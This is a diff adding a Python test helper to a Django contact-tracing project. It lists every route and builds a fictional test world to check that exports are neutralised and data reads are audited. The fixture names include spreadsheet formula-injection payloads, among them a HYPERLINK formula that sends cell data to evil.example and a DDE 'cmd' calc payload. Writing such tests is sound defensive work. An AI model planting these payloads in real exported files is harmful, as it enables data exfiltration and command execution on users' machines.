@@ -1,0 +1,177 @@
+"""Every route of the project, with its parameters filled from a small world, for the tests that check
+a rule on all of them (exports neutralised, personal-data reads audited).
+
+The world is made of made-up people whose names are spreadsheet formulas, so that any file or page that
+shows them can be checked. A route with a parameter this module does not know makes those tests fail
+with a message saying where to teach it: a new route is never silently left out.
+"""
+
+import re
+from dataclasses import dataclass
+from datetime import datetime, timedelta
+
+from django.urls import URLPattern, URLResolver, get_resolver
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&B2,"Gọi")',
+    "+84 Trần Thị Bình",
+    "-Lê Minh Châu",
+    "@Phạm Quốc Dũng",
+    "＝Hoàng Thu Hà",
+    "\t=Đỗ Văn Em",
+]
+HOSTILE_VENUE = "=1+2 Cà phê Giảng"
+HOSTILE_SITE = "@Trạm y tế"
+HOSTILE_TEAM = "+Tổ 1"
+
+
+@dataclass(frozen=True)
+class Route:
+    pattern: str  # as Django writes it: "tracing/runs/<int:run_id>/"
+    callback: object
+    name: str
+
+    @property
+    def params(self) -> list[str]:
+        return re.findall(r"<(?:\w+:)?(\w+)>", self.pattern)
+
+    @property
+    def is_api(self) -> bool:
+        return self.pattern.startswith("api/")
+
+    @property
+    def is_admin(self) -> bool:
+        return self.pattern.startswith("admin/")
+
+
+def all_routes() -> list[Route]:
+    """Every URL pattern of the project (pages, API operations, Django admin), flattened."""
+
+    def walk(patterns, prefix=""):
+        for p in patterns:
+            if isinstance(p, URLResolver):
+                yield from walk(p.url_patterns, prefix + str(p.pattern))
+            elif isinstance(p, URLPattern):
+                yield Route(prefix + str(p.pattern).lstrip("^").rstrip("$"), p.callback, p.name or "")
+
+    return list(walk(get_resolver().url_patterns))
+
+
+def api_operations() -> list[tuple[str, str, object]]:
+    """(method, path, handler) of every Ninja API operation."""
+    from epiqr.api import api
+
+    out = []
+    for prefix, router in api._routers:
+        for path, path_view in router.path_operations.items():
+            for operation in path_view.operations:
+                for method in operation.methods:
+                    out.append((method, f"/api/v1{prefix}{path}".replace("//", "/"), operation.view_func))
+    return out
+
+
+def build_world(*, commune, admin) -> dict:
+    """A venue, an F0 with a stored tracing run, a sampling session with a resulted tube, a declaration,
+    an API token and an outbox message; everyone named with a formula."""
+    from epiqr.accounts.services import api_token_create
+    from epiqr.cases.services import case_open
+    from epiqr.checkins.services import checkin_checkout, checkin_record, declaration_submit
+    from epiqr.core.timeutil import VN_TZ, local_today
+    from epiqr.notify.services import message_send
+    from epiqr.people.models import DocumentKind, IdentityDocument
+    from epiqr.testing import services as testing
+    from epiqr.testing.models import TestKind
+    from epiqr.tracing.services import run_create
+    from epiqr.venues.selectors import venue_token
+    from tests.factories import PersonFactory, VenueFactory
+    from tests.tracing.conftest import reseed_policies
+
+    reseed_policies()
+    people = []
+    for n, name in enumerate(HOSTILE_NAMES):
+        person = PersonFactory(
+            full_name=name,
+            commune=commune,
+            address=f"=cmd|' /C calc'!A{n}",
+            phone=f"0987{n:06d}",
+            birth_year=1980 + n,
+        )
+        IdentityDocument.objects.create(person=person, kind=DocumentKind.CCCD, number=f"0019{n:08d}")
+        people.append(person)
+    venue = VenueFactory(name=HOSTILE_VENUE, commune=commune, address="-1 Phố Thử", owner=None)
+    yesterday = local_today() - timedelta(days=1)
+
+    def at(hour, minute=0):
+        return datetime(yesterday.year, yesterday.month, yesterday.day, hour, minute, tzinfo=VN_TZ)
+
+    f0, *contacts = people
+    visits = [(f0, at(10), at(10, 40))] + [(p, at(10, 10 + 3 * i), at(11)) for i, p in enumerate(contacts)]
+    for person, start, end in visits:
+        checkin = checkin_record(venue_id=venue.pk, person_id=person.pk, method="self", at=start).checkin
+        checkin_checkout(checkin_ids=[checkin.pk], person_ids=[person.pk], at=end)
+    case = case_open(person=f0, confirmed_on=local_today(), onset_on=yesterday)
+    run = run_create(case=case, policy_name="vn-window-60", by=admin)
+    site = testing.site_create(name=HOSTILE_SITE, commune_id=commune.pk, address="=1+1")
+    session = testing.session_create(
+        site=site, team=HOSTILE_TEAM, day=local_today(), kind=TestKind.PCR_POOLED, pool_size_limit=5
+    )
+    tube = testing.tube_open(session=session, barcode="AUD-0001", actor=admin)
+    for person in people[:3]:
+        testing.tube_member_add(tube=tube, person=person, actor=admin)
+    tube = testing.tube_close(tube=tube, actor=admin)
+    testing.result_record(tube=tube, value="negative", actor=admin)
+    declaration = declaration_submit(
+        data={
+            "kind": "domestic",
+            "full_name": HOSTILE_NAMES[1],
+            "birth_year": 1990,
+            "phone": people[1].phone,
+            "commune": commune,
+            "address": "@Ngõ 1",
+            "symptoms": ["fever"],
+        }
+    )
+    token = api_token_create(user=admin, name="audit-walk")
+    message_send(channel="sms", recipient=people[2].phone, body=f"Xin chào {people[2].full_name}")
+    return {
+        "people": people,
+        "f0": f0,
+        "venue": venue,
+        "venue_token": venue_token(venue=venue),
+        "case": case,
+        "run": run,
+        "contact": run.contacts.first(),
+        "session": session,
+        "tube": tube,
+        "declaration": declaration,
+        "token_prefix": token.split(".")[0] if "." in token else token[:8],
+    }
+
+
+def path_for(route: Route, world: dict) -> str:
+    """The route's URL with its parameters taken from the world."""
+    values = {
+        "public_id": world["f0"].public_id,
+        "person_id": world["f0"].public_id,
+        "venue_id": world["venue"].pk,
+        "case_id": world["case"].pk,
+        "run_id": world["run"].pk,
+        "contact_id": world["contact"].pk,
+        "declaration_id": world["declaration"].pk,
+        "barcode": world["tube"].barcode,
+        "session_id": world["session"].pk,
+        "token": world["venue_token"],
+        "prefix": world["token_prefix"],
+    }
+    if route.pattern.startswith("venues/"):
+        values["pk"] = world["venue"].pk
+    elif route.pattern.startswith("testing/sessions/"):
+        values["pk"] = world["session"].pk
+    missing = [p for p in route.params if p not in values]
+    assert not missing, (
+        f"teach tests/routes.py:path_for the parameter(s) {missing} of route {route.pattern!r}"
+    )
+    path = route.pattern
+    for name in route.params:
+        path = re.sub(rf"<(?:\w+:)?{name}>", str(values[name]), path, count=1)
+    return "/" + path
